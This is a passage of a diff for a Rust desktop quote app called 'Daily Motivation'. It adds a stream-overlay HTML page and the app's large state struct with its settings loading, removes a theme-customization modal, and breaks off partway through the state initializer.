-                });
-        });
+/// The browser source page: transparent, in the quote's colors and sizes,
+/// polling `/current.json` so the text follows rotation without reloading
+fn overlay_page(current: &CurrentQuoteSnapshot) -> String {
+    fn escape(text: &str) -> String {
+        text.replace('&', "&amp;")
+            .replace('<', "&lt;")
+            .replace('>', "&gt;")
+            .replace('"', "&quot;")
+    }
+    fn css(color: Color32) -> String {
+        format!("#{:02x}{:02x}{:02x}", color.r(), color.g(), color.b())
+    }
+    format!(
+        r#"<!DOCTYPE html>
+<html>
+<head>
+<meta charset="utf-8">
+<title>Daily Motivation</title>
+<style>
+  html, body {{ background: transparent; margin: 0; }}
+  body {{ font-family: "Segoe UI", "Nirmala UI", sans-serif; text-align: center; }}
+  #main {{ color: {main_color}; font-size: {main_size}px; font-weight: 600; }}
+  #sub {{ color: {sub_color}; font-size: {sub_size}px; margin-top: 0.4em; }}
+</style>
+</head>
+<body>
+<div id="main">{main}</div>
+<div id="sub">{sub}</div>
+<script>
+  async function refresh() {{
+    try {{
+      const quote = await (await fetch("/current.json", {{ cache: "no-store" }})).json();
+      document.getElementById("main").textContent = quote.main;
+      document.getElementById("sub").textContent = quote.sub;
+    }} catch (e) {{}}
+  }}
+  setInterval(refresh, {refresh_ms});
+</script>
+</body>
+</html>
+"#,
+        main_color = css(current.main_color),
+        sub_color = css(current.sub_color),
+        main_size = current.main_size,
+        sub_size = current.sub_size,
+        main = escape(&current.main),
+        sub = escape(&current.sub),
+        refresh_ms = OVERLAY_REFRESH_MS,
+    )
 }
 
 // =============================================================================
-// THEME MODAL RENDERER
+// MAIN APPLICATION STATE
 // =============================================================================
 
-/// Render the theme customization modal
-pub fn render_theme_modal(ctx: &Context, state: &mut AppState) {
-    if !state.theme_modal_open {
-        return;
-    }
+/// Main application state
+#[derive(Debug)]
+pub struct AppState {
+    // Title bar state
+    pub title_bar_state: TitleBarState,
 
-    egui::Window::new("Customize Theme")
-        .collapsible(false)
-        .resizable(false)
-        .anchor(egui::Align2::CENTER_CENTER, Vec2::new(0.0, 0.0))
-        .fixed_size(Vec2::new(400.0, 500.0))
-        .frame(egui::Frame::window(&ctx.style()).fill(Color32::from_white_alpha(15)))
-        .show(ctx, |ui| {
-            // Mode toggle
-            ui.horizontal(|ui| {
-                ui.label(RichText::new("Mode:").color(Color32::WHITE).size(12.0));
+    // Quotes of the active collection
+    pub quotes: Vec<Quote>,
+    pub current_quote_index: usize,
+    // Pinned quote (always the current one while set); NEXT/PREV and the
+    // rotation leave it alone until it's unpinned (see `toggle_pin`)
+    pub pinned_quote: Option<usize>,
+    // Indices shown before the current one, most recent last (PREV pops)
+    pub history: Vec<usize>,
+    pub startup_quote: StartupPolicy,
+
+    // Collections; the active entry's quotes are held in `quotes` above
+    pub collections: Vec<Collection>,
+    pub active_collection: usize,
+    pub collection_name_input: String,
+    pub collection_renaming: bool,
+    pub confirm_delete_collection: bool,
+
+    // Recycle bin for deleted quotes (shared by all collections)
+    pub archived: Vec<Quote>,
+
+    // INBOX: incoming quotes that stay out of the rotation until approved
+    // (see `approve_pending`), the collection they're approved into, and the
+    // entry being edited before approval with its text buffers
+    pub pending: Vec<Quote>,
+    pub inbox_target: usize,
+    pub inbox_edit: Option<(usize, String, String)>,
+
+    // Export / import dialogs
+    pub export_open: bool,
+    pub export_all_collections: bool,
+    pub export_include_archived: bool,
+    pub pending_import: Option<Vec<Quote>>,
+    // Collection to merge an import into; None creates a new one
+    pub import_target: Option<usize>,
 
-                let gradient_selected = state.theme.mode == ThemeMode::Gradient;
-                let solid_selected = state.theme.mode == ThemeMode::Solid;
+    // Rotation
+    pub rotation_interval: Duration,
+    // The last change (or countdown restart), on both clocks: the monotonic
+    // one for relative timing, the wall clock for `RotationSync::WallClock`
+    pub last_rotation: Instant,
+    pub last_rotation_at: chrono::DateTime<chrono::Local>,
+    pub rotation_enabled: bool,
+    pub rotation_mode: RotationMode,
+    pub rotation_sync: RotationSync,
+    // Stretch the interval to the reading time (see `effective_interval`)
+    pub reading_time_interval: bool,
+    pub reading_wpm: u32,
+    pub reading_bengali_cpm: u32,
+    // Daily mode: today's quote, and the direction (true = NEXT) of a
+    // change waiting on the "override today's quote?" toast
+    pub daily_quote: Option<DailyQuote>,
+    pending_daily_step: Option<bool>,
+    // Every random choice (startup pick, random rotation) draws from `rng`,
+    // seeded from --seed or the saved `seed` when either is set
+    pub seed: Option<u64>,
+    rng: rand::rngs::StdRng,
 
-                if ui.selectable_label(gradient_selected, "Gradient").clicked() {
-                    state.theme.mode = ThemeMode::Gradient;
-                    state.save();
-                }
-                if ui.selectable_label(solid_selected, "Solid").clicked() {
-                    state.theme.mode = ThemeMode::Solid;
-                    state.save();
-                }
-            });
+    // Interval as numeric (for DragValue)
+    pub interval_secs: u64,
+    pub interval_presets: Vec<u64>,
+    // Filled in for quotes added or imported without a sub text
+    pub default_sub_text: String,
+    // Rotation holds while a quote is pinned, the user is away (idle past the
+    // threshold or locked) or busy editing (see `update_idle_hold`)
+    pub idle_pause_secs: u64,
+    pub idle_hold: Option<IdleHold>,
+    pub idle_source: Box<dyn IdleSource>,
 
-            ui.add_space(10.0);
+    // Theme
+    pub theme: ThemeConfig,
+    pub theme_modal_open: bool,
+    pub theme_history: ThemeHistory,
 
-            ui.horizontal(|ui| {
-                if ui
-                    .checkbox(
-                        &mut state.theme.apply_to_entire_window,
-                        "Apply to Entire Window",
-                    )
-                    .changed()
-                {
-                    state.save();
-                }
-            });
+    // Text style
+    pub text_style: TextStyleConfig,
 
-            ui.add_space(15.0);
+    // Input fields
+    pub main_text_input: String,
+    pub sub_text_input: String,
+    // So either field's submit can hand focus back to the main one
+    pub main_text_input_id: egui::Id,
+    // Whichever of the two inputs above had focus last (emoji insert target)
+    pub last_text_input: Option<egui::Id>,
+    // Optional second-language line and source link for the quote being added
+    pub translation_input: String,
+    pub source_url_input: String,
+    // Quote the ADD CUSTOM TEXT form is editing; submitting writes the
+    // inputs back to it instead of adding a new quote
+    pub editing_quote: Option<usize>,
+    // Alternate translation display: the translation is the main line now
+    // (flips with every rotation)
+    pub translation_swapped: bool,
+    pub recent_emoji: Vec<String>,
+
+    // Index of the quote whose subtitle is being edited inline; the save
+    // goes there even if the current quote has moved on meanwhile
+    pub subtitle_editing: Option<usize>,
+    pub subtitle_edit_buffer: String,
 
-            if state.theme.mode == ThemeMode::Gradient {
-                // Gradient angle
-                ui.label(
-                    RichText::new("Gradient Angle:")
-                        .color(Color32::WHITE)
-                        .size(12.0),
-                );
-                ui.add_space(5.0);
+    // Quote whose note is open in the TEXT LIST note editor
+    pub note_editing: Option<usize>,
+    pub note_edit_buffer: String,
 
-                ui.horizontal_wrapped(|ui| {
-                    for angle in [0, 45, 90, 135, 180, 225, 270, 315] {
-                        let selected = state.theme.gradient_angle == angle;
-                        if ui
-                            .selectable_label(selected, format!("{}°", angle))
-                            .clicked()
-                        {
-                            state.theme.gradient_angle = angle;
-                            state.save();
-                        }
-                    }
-                });
+    // TEXT LIST rows ticked for the bulk actions, and their tag input
+    pub list_selection: std::collections::BTreeSet<usize>,
+    pub bulk_tag_input: String,
 
-                ui.add_space(15.0);
+    pub confirm_clear_pending: bool,
+    pub pending_clear: Option<PendingClear>,
+
+    // Deadlines (countdown display)
+    pub deadlines: Vec<Deadline>,
+    pub deadline_label_input: String,
+    pub deadline_date_input: chrono::NaiveDate,
+    pub deadline_hour_input: u32,
+    pub deadline_minute_input: u32,
+
+    // Clock overlay
+    pub clock: ClockConfig,
+
+    // Schedule profiles
+    pub profiles: Vec<Profile>,
+    pub profile_selection: ProfileSelection,
+
+    // Control panel width as last laid out by egui (persisted once a resize ends)
+    pub control_panel_width: f32,
+    // Set by double-clicking the divider: lay the panel out at the default width once
+    pub control_panel_reset: bool,
+    pub active_profile: Option<usize>,
+    // Global values stashed while the active profile (or theme band) overrides them,
+    // and the values the override put in their place (see `apply_profile`)
+    pub base_theme: Option<ThemeConfig>,
+    pub base_interval_secs: Option<u64>,
+    pub override_theme: Option<ThemeConfig>,
+    pub override_interval_secs: Option<u64>,
+    // Theme by time of day (see `ThemeBand`): the band last resolved, and
+    // the minute of the day that happened at
+    pub theme_automation: bool,
+    pub theme_bands: Vec<ThemeBand>,
+    pub active_theme_band: Option<usize>,
+    pub theme_band_minute: Option<u32>,
+    pub profile_editor_open: bool,
+    pub tag_input: String,
+
+    // Tag manager: per-tag colors (with a picker change not saved until
+    // it's let go), the tag being renamed (with its new name) and the
+    // rename/merge/delete steps that can be undone
+    pub tag_colors: std::collections::BTreeMap<String, Color32>,
+    pub tag_color_unsaved: bool,
+    pub show_quote_tags: bool,
+    pub tag_manager_open: bool,
+    pub tag_rename: Option<(String, String)>,
+    pub tag_undo: Vec<TagSnapshot>,
+
+    // Repeated sub texts window: the group being given a new sub text (old
+    // text, new text) and the group edits that can be undone
+    pub sub_text_tool_open: bool,
+    pub sub_text_edit: Option<(String, String)>,
+    pub sub_text_undo: Vec<SubTextSnapshot>,
+
+    // Notifications
+    pub toasts: Vec<Toast>,
+
+    // settings.json hot reload
+    pub settings_watcher: Option<SettingsWatcher>,
+    // Hash of the configuration as last written or loaded
+    pub settings_hash: std::cell::Cell<Option<u64>>,
+    // Background writer behind `save`
+    pub settings_writer: SettingsWriter,
+    // File contents waiting on a "keep mine" / "load file" decision
+    pending_reload: Option<AppConfig>,
+    // Last save failure, reported as a toast on the next frame
+    pub save_error: std::cell::RefCell<Option<String>>,
+    // Shown in a modal when settings.json could not be loaded at startup
+    pub config_notice: Option<String>,
+    // Set when settings.json comes from a newer version: never overwrite it
+    pub read_only: bool,
+    // Safe mode (--safe-mode or after a crash at startup), and the banner's
+    // "Restart normally" having been clicked
+    pub safe_mode: Option<SafeMode>,
+    pub restart_normally: bool,
+
+    // Last OS theme read (None where unsupported) and when it was read
+    pub system_theme: Option<SystemTheme>,
+    pub system_theme_polled: Instant,
+    // (light, accent) the egui style was last built for
+    pub applied_ui_style: Option<(bool, Color32)>,
+
+    // Auto-fit scale per (quote, size, panel size); see `auto_fit_scale`
+    pub auto_fit_cache: HashMap<u64, f32>,
+
+    // Frame rate overlay (F3) and the recent frame timestamps it reports
+    pub fps_overlay: bool,
+    pub frame_times: std::collections::VecDeque<Instant>,
+
+    // Presentation (kiosk) mode: quote only, Esc exits
+    pub presentation_mode: bool,
+    // Window geometry to restore on exit: (x, y, width, height, maximized)
+    pub presentation_restore: Option<(i32, i32, u32, u32, bool)>,
+    // Maximized to the monitor work area; geometry to restore: (x, y, width, height)
+    pub maximize_restore: Option<(i32, i32, u32, u32)>,
+
+    // Mini (ticker) mode; what to restore on exit: (x, y, width, height, panel visible)
+    pub display_mode: DisplayMode,
+    pub mini_restore: Option<(i32, i32, u32, u32, bool)>,
+
+    // Corner hotspots (indexed like ScreenCorner::ALL) and the corner the
+    // pointer is resting in: (corner, since, hover already fired)
+    pub hotspots: [CornerAction; 4],
+    pub hotspot_dwell: Option<(ScreenCorner, Instant, bool)>,
+
+    // Daily-open streak; see `update_streak`
+    pub last_open_date: Option<chrono::NaiveDate>,
+    pub streak: u32,
+
+    // Backups: the weekly opt-in, and an archive waiting on "replace" confirm
+    pub auto_backup: bool,
+    pub last_auto_backup: Option<chrono::NaiveDate>,
+    pending_restore: Option<PendingRestore>,
+
+    // Dim while unfocused; see `effective_opacity`. `applied_opacity` is the
+    // alpha last handed to the OS, so it's only written when it changes
+    pub focus_dim: bool,
+    pub focus_dim_level: f32,
+    pub window_focused: bool,
+    pub applied_opacity: Option<u8>,
+
+    // Backdrop (effect, dark) last requested from DWM, and whether DWM took
+    // it; when it didn't, the opaque theme background is drawn as before
+    pub applied_backdrop: Option<(BackdropEffect, bool)>,
+    pub backdrop_active: bool,
+
+    // Clipboard capture: running while `clipboard_watcher` is Some, off
+    // again after `clipboard_capture_minutes`; the text a toast is offering
+    pub clipboard_watcher: Option<ClipboardWatcher>,
+    pub clipboard_capture_minutes: u64,
+    pub pending_clipboard: Option<String>,
+
+    // Sound feedback (see `play_sound`). The audio thread starts on first
+    // use; deadlines that pass after `deadline_checked` play the end sound
+    pub sound_on_rotate: bool,
+    pub sound_on_complete: bool,
+    pub sound_volume: f32,
+    audio: Option<AudioPlayer>,
+    last_chime: Option<Instant>,
+    deadline_checked: chrono::NaiveDateTime,
+
+    // egui zoom factor: every point is `ui_scale` times the native size, and
+    // the quote zoom applies on top of that
+    pub ui_scale: f32,
+
+    // Add form length limit (see `validate_quote_input`)
+    pub quote_max_chars: usize,
+    // Pasted-text cleanup (see `clean_quote`); off keeps text as typed
+    pub clean_quote_text: bool,
+    // Window title follows the current quote; `titled_quote` is the one the
+    // title was last set for (None: the app name)
+    pub quote_in_title: bool,
+    titled_quote: Option<usize>,
+
+    // Startup placement (see `initial_window_position`); the position is
+    // tracked from Moved events and written with the next save
+    pub window_placement: WindowPlacement,
+    pub window_position: Option<(i32, i32)>,
+    // "Return home" target, set by hand, else where the window first opened
+    pub home_position: Option<(i32, i32)>,
+    pub startup_position: Option<(i32, i32)>,
+    // Logical size of the resting full window, tracked like the position
+    pub window_size: Option<(u32, u32)>,
+    pub lock_aspect_ratio: bool,
+    // Window level; see `set_always_on_top`
+    pub always_on_top: bool,
+    // See `set_click_through`
+    pub click_through: bool,
+
+    // First-run walkthrough: the step on screen, and whether it was finished
+    pub onboarding: Option<OnboardingStep>,
+    pub onboarding_done: bool,
+
+    // Scripting hooks (see `run_hook`); the hook thread starts on first use,
+    // and a command that failed is skipped until its text changes
+    pub on_rotate_command: String,
+    pub on_session_complete_command: String,
+
+    // Update check (see `update_release_check`): the answer being waited
+    // on, and the newer release a toast is offering
+    pub check_updates: bool,
+    pub last_update_check: Option<chrono::NaiveDate>,
+    pub skipped_version: Option<String>,
+    pub reported_crash: Option<String>,
+    update_check: Option<std::sync::mpsc::Receiver<Result<ReleaseInfo, String>>>,
+    pub available_update: Option<ReleaseInfo>,
+
+    // Cursor auto-hide (see `hide_idle_cursor`): the last pointer movement,
+    // click or scroll, and the canvas rect this frame (None in mini mode)
+    pub cursor_autohide: bool,
+    pub cursor_hide_secs: u64,
+    pub last_pointer_activity: Instant,
+    pub quote_area: Option<Rect>,
+
+    // Canvas swipes: the drag so far, and the slide-in of a swiped-to quote
+    // (direction, start)
+    pub swipe_drag: Vec2,
+    pub quote_slide: Option<(f32, Instant)>,
+
+    // Stream overlay (see `update_overlay`): the port it serves on, the one
+    // being picked in the settings (applied once the drag or edit ends), the
+    // server while it runs, and a port that failed to bind, not retried
+    // until the settings change
+    pub overlay_enabled: bool,
+    pub overlay_port: u16,
+    pub overlay_port_input: u16,
+    overlay: Option<OverlayServer>,
+    overlay_failed_port: Option<u16>,
+    hooks: Option<HookRunner>,
+    failed_hooks: HashSet<String>,
+
+    // Control panel sections the user folded (see `render_section`)
+    pub section_open: SectionStates,
+
+    // Title bar button groups in display order (see `render_title_bar`)
+    pub title_bar_items: Vec<TitleBarItem>,
+
+    // "Save as Image" dialog
+    pub image_export_open: bool,
+    pub image_export_preset: ImageExportPreset,
+    pub image_export_brackets: bool,
+
+    // 3D Background Process. `is_3d_bg_active` only turns on once the child
+    // has survived BG_STARTUP_GRACE (`bg_spawned_at` is set until then);
+    // launches that die early back off until `bg_retry_at`
+    pub is_3d_bg_active: bool,
+    pub background: BackgroundConfig,
+
+    // Low power mode (see `update_power`): the last battery reading, when it
+    // was taken, whether the savings are on, and whether they stopped the
+    // 3D background (so it comes back afterwards)
+    pub low_power: LowPowerConfig,
+    pub on_battery: Option<bool>,
+    pub power_checked: Instant,
+    pub low_power_active: bool,
+    pub bg_paused_for_power: bool,
+    pub bg_process: Option<std::process::Child>,
+    pub bg_hwnd: Option<isize>,
+    pub bg_spawned_at: Option<Instant>,
+    pub bg_failures: u32,
+    pub bg_retry_at: Option<Instant>,
 
-                // Gradient colors
-                ui.label(
-                    RichText::new("Gradient Colors:")
-                        .color(Color32::WHITE)
-                        .size(12.0),
-                );
-                ui.add_space(5.0);
+    // Color picker toggles
+    pub show_main_color_picker: bool,
+    pub show_sub_color_picker: bool,
 
-                let mut to_remove = None;
-                for idx in 0..state.theme.gradient_colors.len() {
-                    ui.horizontal(|ui| {
-                        ui.label(
-                            RichText::new(format!("Color {}:", idx + 1))
-                                .color(Color32::GRAY)
-                                .size(11.0),
-                        );
+    // Running state
+    pub running: bool,
 
-                        // Color picker (RGBA format)
-                        let color = state.theme.gradient_colors[idx];
-                        let mut color_array = [
-                            color.r() as f32 / 255.0,
-                            color.g() as f32 / 255.0,
-                            color.b() as f32 / 255.0,
-                            1.0,
-                        ];
-                        if ui
-                            .color_edit_button_rgba_unmultiplied(&mut color_array)
-                            .changed()
-                        {
-                            state.theme.gradient_colors[idx] = Color32::from_rgb(
-                                (color_array[0] * 255.0) as u8,
-                                (color_array[1] * 255.0) as u8,
-                                (color_array[2] * 255.0) as u8,
-                            );
-                            state.save();
-                        }
+    // Activity tracking for auto-hide
+    pub last_interaction: Instant,
+    // When this run started, for the {session_minutes} placeholder
+    pub session_started: Instant,
 
-                        // Remove button (only when > 2 colors)
-                        if state.theme.gradient_colors.len() > 2 {
-                            let remove_btn = ui.add(
-                                egui::Button::new(
-                                    RichText::new("Remove").color(Color32::WHITE).size(10.0),
-                                )
-                                .fill(Color32::from_rgb(255, 70, 70)),
-                            );
-                            if remove_btn.clicked() {
-                                to_remove = Some(idx);
-                            }
-                        }
-                    });
-                }
+    // Custom manual resize state
+    // (ResizeDirection, initial_cursor_x, initial_cursor_y, initial_window_x, initial_window_y, initial_width, initial_height)
+    pub manual_resize_start: Option<(winit::window::ResizeDirection, i32, i32, i32, i32, u32, u32)>,
 
-                if let Some(idx) = to_remove {
-                    state.theme.gradient_colors.remove(idx);
-                    state.save();
-                }
+    // Content rotation in clockwise quarter turns: 0=0, 1=90, 2=180, 3=270
+    // (see `ContentRotation`); the angles keep counting past a full turn
+    pub rotation: u8,
+    pub target_rotation_angle: f32,
+    pub current_rotation_angle: f32,
+    pub current_scale: f32,
 
-                // Add color button
-                if state.theme.gradient_colors.len() < 5 {
-                    if ui.button("+ Add Color").clicked() {
-                        state.theme.gradient_colors.push(Color32::WHITE);
-                        state.save();
-                    }
-                }
+    // Bouncy window state (Now part of Multi-Animation)
+    pub active_animation: AppAnimation,
+    pub anim_progress: f32,
+    pub bounce_vel_x: f32,
+    pub bounce_vel_y: f32,
+    pub base_pos: Option<(i32, i32)>,
+    pub move_started: Option<Instant>,
+
+    // Cue for quotes arriving from outside; the shake keeps its own base
+    // position so it never fights the animation engine over `base_pos`
+    pub attention_cue: AttentionCue,
+    pub attention_started: Option<Instant>,
+    pub attention_base_pos: Option<(i32, i32)>,
+
+    // PREV/NEXT buttons: when they show, and where
+    pub nav_visibility: NavVisibility,
+    pub nav_position: NavPosition,
+
+    // Live preview of the add form; shaping waits until typing pauses so
+    // every keystroke doesn't leave a texture in the shaped text cache
+    pub preview_style: PreviewStyle,
+    preview_text: String,
+    preview_changed: Option<Instant>,
+
+    // Digits for the counter, Δt, intervals and streak (see `NumeralSystem::digits`)
+    pub numeral_system: NumeralSystem,
+
+    // 🎲 rolls a random gradient too (see `surprise_me`)
+    pub roulette_theme: bool,
+
+    // "Match time of day": a weighting layer over random rotation (see
+    // `EnergyLevel::weight_halves`)
+    pub energy_matching: bool,
+    pub energy_bands: Vec<EnergyBand>,
+}
 
-                ui.add_space(15.0);
+impl Default for AppState {
+    fn default() -> Self {
+        Self::load(None)
+    }
+}
 
-                // Presets
-                ui.label(
-                    RichText::new("Preset Gradients:")
-                        .color(Color32::WHITE)
-                        .size(12.0),
-                );
-                ui.add_space(5.0);
-
-                // Preset buttons
-                ui.horizontal_wrapped(|ui| {
-                    if ui.button("⬡ Aurora Void").clicked() {
-                        state.theme.gradient_colors = vec![
-                            Color32::from_rgb(2, 4, 16),
-                            Color32::from_rgb(30, 0, 80),
-                            Color32::from_rgb(0, 60, 120),
-                            Color32::from_rgb(0, 200, 180),
-                        ];
-                        state.save();
-                    }
-                    if ui.button("⬡ Solar Flare").clicked() {
-                        state.theme.gradient_colors = vec![
-                            Color32::from_rgb(10, 0, 30),
-                            Color32::from_rgb(120, 20, 0),
-                            Color32::from_rgb(255, 100, 0),
-                            Color32::from_rgb(255, 220, 60),
-                        ];
-                        state.save();
-                    }
-                });
-                ui.horizontal_wrapped(|ui| {
-                    if ui.button("⬡ Plasma Storm").clicked() {
-                        state.theme.gradient_colors = vec![
-                            Color32::from_rgb(5, 0, 20),
-                            Color32::from_rgb(80, 0, 180),
-                            Color32::from_rgb(200, 0, 255),
-                            Color32::from_rgb(255, 80, 200),
-                        ];
-                        state.save();
-                    }
-                    if ui.button("⬡ Deep Ocean").clicked() {
-                        state.theme.gradient_colors = vec![
-                            Color32::from_rgb(0, 5, 20),
-                            Color32::from_rgb(0, 30, 80),
-                            Color32::from_rgb(0, 100, 160),
-                            Color32::from_rgb(0, 200, 220),
-                        ];
-                        state.save();
-                    }
-                });
-                ui.horizontal_wrapped(|ui| {
-                    if ui.button("⬡ Matrix Rain").clicked() {
-                        state.theme.gradient_colors = vec![
-                            Color32::from_rgb(0, 8, 0),
-                            Color32::from_rgb(0, 40, 10),
-                            Color32::from_rgb(0, 120, 30),
-                            Color32::from_rgb(80, 255, 100),
-                        ];
-                        state.save();
-                    }
-                    if ui.button("⬡ Quantum Noir").clicked() {
-                        state.theme.gradient_colors = vec![
-                            Color32::from_rgb(2, 2, 6),
-                            Color32::from_rgb(10, 10, 25),
-                            Color32::from_rgb(25, 25, 50),
-                            Color32::from_rgb(60, 60, 100),
-                        ];
-                        state.save();
-                    }
+impl AppState {
+    /// Load settings.json, falling back to the built-in defaults; `cli_seed`
+    /// (from --seed) takes precedence over the seed saved in the file.
+    /// A corrupt file is moved aside first so the defaults never overwrite it.
+    fn load(cli_seed: Option<u64>) -> Self {
+        let mut notice = None;
+        let config = match AppConfig::load() {
+            Ok(config) => config,
+            // A fresh install gets the walkthrough
+            Err(err) if err.is_missing() => AppConfig {
+                onboarding_done: false,
+                ..AppConfig::default()
+            },
+            Err(err @ ConfigError::Parse { .. }) => {
+                log_to_file(&err.to_string());
+                notice = Some(match backup_corrupt_settings() {
+                    Ok(backup) => format!(
+                        "{}\n\nYour old file was preserved as {}. Defaults were loaded.",
+                        err,
+                        backup.display()
+                    ),
+                    Err(e) => format!(
+                        "{}\n\nThe file could not be backed up ({}). Defaults were loaded.",
+                        err, e
+                    ),
                 });
-            } else {
-                // Solid color
-                ui.label(
-                    RichText::new("Solid Color:")
-                        .color(Color32::WHITE)
-                        .size(12.0),
-                );
-                ui.add_space(5.0);
-
-                let solid = state.theme.solid_color;
-                let mut color_array = [
-                    solid.r() as f32 / 255.0,
-                    solid.g() as f32 / 255.0,
-                    solid.b() as f32 / 255.0,
-                    1.0,
-                ];
-                if ui
-                    .color_edit_button_rgba_unmultiplied(&mut color_array)
-                    .changed()
-                {
-                    state.theme.solid_color = Color32::from_rgb(
-                        (color_array[0] * 255.0) as u8,
-                        (color_array[1] * 255.0) as u8,
-                        (color_array[2] * 255.0) as u8,
-                    );
-                    state.save();
-                }
+                AppConfig::default()
             }
+            Err(err) => {
+                log_to_file(&err.to_string());
+                notice = Some(format!("{}\n\nDefaults were loaded.", err));
+                AppConfig::default()
+            }
+        };
+        let mut state = Self::from_config(config, cli_seed);
+        if state.read_only {
+            notice = Some(format!(
+                "{} was written by a newer version of Daily Motivation. \
+                 It will not be modified; changes made now are not saved.",
+                SETTINGS_FILE
+            ));
+        }
+        state.config_notice = notice;
+        state.settings_hash.set(state.config_hash());
+        state.settings_watcher = SettingsWatcher::start();
+        state.apply_system_theme();
+
+        // Quotes for a crash report until the first save replaces them
+        crash_report::remember(state.to_config());
+        // A crash report from last time that hasn't been offered yet
+        if let Some(report) = crash_report::newest(CRASH_DIR)
+            .filter(|name| state.reported_crash.as_ref() != Some(name))
+        {
+            state.toasts.push(
+                Toast::new(
+                    ToastKind::Error,
+                    format!(
+                        "Daily Motivation crashed last time; the report is {}",
+                        report
+                    ),
+                )
+                .with_actions(vec![ToastAction::OpenCrashFolder]),
+            );
+            state.reported_crash = Some(report);
+            state.save();
+        }
+        state
+    }
 
-            ui.add_space(20.0);
+    /// Build the runtime state from a loaded (or default) configuration
+    fn from_config(mut config: AppConfig, cli_seed: Option<u64>) -> Self {
+        let read_only = config.is_from_future();
+        config.normalize_collections();
+        let mut rng = seeded_rng(cli_seed.or(config.seed));
+        // The active collection's quotes live in `quotes` while it is selected
+        let quotes = std::mem::take(&mut config.collections[config.active_collection].quotes);
+        let pinned_quote = config.pinned_quote.filter(|&i| i < quotes.len());
+        // In daily mode today's quote wins over the startup policy
+        let today = chrono::Local::now().date_naive();
+        let daily = config.daily_quote.filter(|d| {
+            config.rotation_mode == RotationMode::Daily && d.date == today && d.index < quotes.len()
+        });
+        let current_quote_index = pinned_quote.or(daily.map(|d| d.index)).unwrap_or_else(|| {
+            config
+                .startup_quote
+                .start_index(config.current_quote_index, quotes.len(), &mut rng)
+        });
+        let rotation = config.content_rotation % 4;
+        let rotation_angle = rotation as f32 * std::f32::consts::FRAC_PI_2;
+        Self {
+            title_bar_state: TitleBarState::default(),
+            quotes,
+            current_quote_index,
+            pinned_quote,
+            history: Vec::new(),
+            startup_quote: config.startup_quote,
+            collections: config.collections,
+            active_collection: config.active_collection,
+            collection_name_input: String::new(),
+            collection_renaming: false,
+            confirm_delete_collection: false,
+            archived: config.archived,
+            pending: config.pending,
+            inbox_target: config.active_collection,
+            inbox_edit: None,
+            export_open: false,
+            export_all_collections: false,
+            export_include_archived: false,
+            pending_import: None,
+            import_target: None,
+            rotation_interval: Duration::from_secs(config.interval_secs),
+            last_rotation: Instant::now(),
+            last_rotation_at: chrono::Local::now(),
+            rotation_enabled: true,
+            rotation_mode: config.rotation_mode,
+            daily_quote: config.daily_quote,
+            pending_daily_step: None,
+            rotation_sync: config.rotation_sync,
+            reading_time_interval: config.reading_time_interval,
+            reading_wpm: config.reading_wpm,
+            reading_bengali_cpm: config.reading_bengali_cpm,
+            seed: config.seed,
+            rng,
+            interval_secs: config.interval_secs,
+            interval_presets: config.interval_presets,
+            default_sub_text: config.default_sub_text,
+            idle_pause_secs: config.idle_pause_secs,
+            idle_hold: None,
+            idle_source: Box::new(SystemIdleSource),
+            theme: config.theme,
+            theme_modal_open: false,
+            theme_history: ThemeHistory::default(),
+            text_style: config.text_style,
+            main_text_input: String::new(),
+            sub_text_input: String::new(),
+            main_text_input_id: egui::Id::new(MAIN_TEXT_INPUT_ID),
+            last_text_input: None,
+            translation_input: String::new(),
+            source_url_input: String::new(),
+            translation_swapped: false,
+            recent_emoji: config.recent_emoji,
+            show_main_color_picker: false,
+            show_sub_color_picker: false,
+            running: true,
+            last_interaction: Instant::now(),
+            session_started: Instant::now(),
+            subtitle_editing: None,
+            note_editing: None,
+            editing_quote: None,
+            note_edit_buffer: String::new(),
+            subtitle_edit_buffer: String::new(),
+            list_selection: std::collections::BTreeSet::new(),
+            bulk_tag_input: String::new(),
+            confirm_clear_pending: false,
+            pending_clear: None,
+            deadlines: config.deadlines,
+            deadline_label_input: String::new(),
+            deadline_date_input: chrono::Local::now().date_naive(),
+            deadline_hour_input: 9,
+            deadline_minute_input: 0,
+            clock: config.clock,
+            profiles: config.profiles,
+            profile_selection: config.profile_selection,
+            control_panel_width: config.control_panel_width.clamp(
+                *CONTROL_PANEL_WIDTH_RANGE.start(),
+                *CONTROL_PANEL_WIDTH_RANGE.end(),
+            ),
+            control_panel_reset: false,
+            active_profile: None,
+            base_theme: None,
+            override_theme: None,
+            theme_automation: config.theme_automation,
+            theme_bands: config.theme_bands,
+            active_theme_band: None,
+            theme_band_minute: None,
+            base_interval_secs: None,
+            override_interval_secs: None,
+            profile_editor_open: false,
+            tag_input: String::new(),
+            tag_colors: config.tag_colors,
+            show_quote_tags: config.show_quote_tags,
+            tag_manager_open: false,
+            tag_rename: None,
+            tag_color_unsaved: false,
+            tag_undo: Vec::new(),
+            sub_text_tool_open: false,
+            sub_text_edit: None,
+            sub_text_undo: Vec::new(),
+            toasts: Vec::new(),
+            settings_watcher: None,
+            settings_hash: std::cell::Cell::new(None),
+            settings_writer: SettingsWriter::start(),
+            pending_reload: None,
+            save_error: std::cell::RefCell::new(None),
+            config_notice: None,
+            read_only,
+            safe_mode: None,
+            restart_normally: false,
+            system_theme: read_system_theme(),
+            system_theme_polled: Instant::now(),
+            applied_ui_style: None,
+            auto_fit_cache: HashMap::new(),
+            fps_overlay: false,
+            frame_times: std::collections::VecDeque::new(),
+            presentation_mode: false,
+            presentation_restore: None,
+            maximize_restore: None,
+            display_mode: config.display_mode,
+            mini_restore: None,
+            hotspots: config.hotspots,
+            hotspot_dwell: None,
+            last_open_date: config.last_open_date,
+            streak: config.streak,
+            auto_backup: config.auto_backup,
+            last_auto_backup: config.last_auto_backup,
+            pending_restore: None,
+            focus_dim: config.focus_dim,
+            focus_dim_level: config
+                .focus_dim_level
+                .clamp(*FOCUS_DIM_RANGE.start(), *FOCUS_DIM_RANGE.end()),
+            window_focused: true,
+            applied_opacity: None,
+            applied_backdrop: None,
+            backdrop_active: false,
+            clipboard_watcher: None,
+            clipboard_capture_minutes: config.clipboard_capture_minutes.max(1),
+            pending_clipboard: None,
+            sound_on_rotate: config.sound_on_rotate,
+            sound_on_complete: config.sound_on_complete,
+            sound_volume: config.sound_volume.clamp(0.0, 1.0),
+            audio: None,
+            last_chime: None,
+            deadline_checked: chrono::Local::now().naive_local(),
+            ui_scale: config
+                .ui_scale
+                .clamp(*UI_SCALE_RANGE.start(), *UI_SCALE_RANGE.end()),
+            quote_max_chars: config
+                .quote_max_chars
